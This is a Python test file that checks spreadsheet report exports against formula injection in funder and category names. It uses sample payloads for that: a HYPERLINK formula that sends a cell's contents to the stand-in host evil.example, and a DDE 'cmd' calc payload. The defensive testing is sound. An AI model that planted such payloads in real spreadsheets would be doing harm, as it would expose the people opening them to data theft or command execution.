"""Finding 12: names starting with "=" (a funder, a category) never become live formulas in a spreadsheet."""

import io

from openpyxl import load_workbook

from cases.models import Funder, ProblemCategory
from reference.spreadsheets import csv_bytes, neutralise_workbook
from reports.document import ReportRequest, build_files
from reports.periods import parse_period
from tests.reports.conftest import world  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _cells(xlsx: bytes):
    workbook = load_workbook(io.BytesIO(xlsx))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_funder_report_writes_formula_like_names_as_text(world):  # noqa: F811
    project = world["project"]
    # The funder is a translated reference row now (cases.Funder): its name is what the report writes.
    Funder.objects.filter(pk=project.funder_id).update(name_ru=EVIL, name_kk=EVIL, name_en=EVIL)
    project.refresh_from_db()
    ProblemCategory.objects.filter(code="documents-withheld").update(name_en="=1+1", name_ru="=1+1")
    files = build_files(ReportRequest(period=parse_period("2026Q3"), language="en", project=project))
    cells = _cells(files.xlsx)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + EVIL in values
    assert "'=1+1" in values


def test_the_writer_neutralises_csv_and_xlsx_alike():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "=cmd|' /C calc'!A0"
    workbook.active["A2"] = "@SUM(1)"
    neutralise_workbook(workbook)
    assert workbook.active["A1"].data_type == "s"
    assert workbook.active["A1"].value.startswith("'=")
    assert workbook.active["A2"].value == "'@SUM(1)"
    assert "'+7 701" in csv_bytes(["phone"], [["+7 701"]]).decode("utf-8-sig")
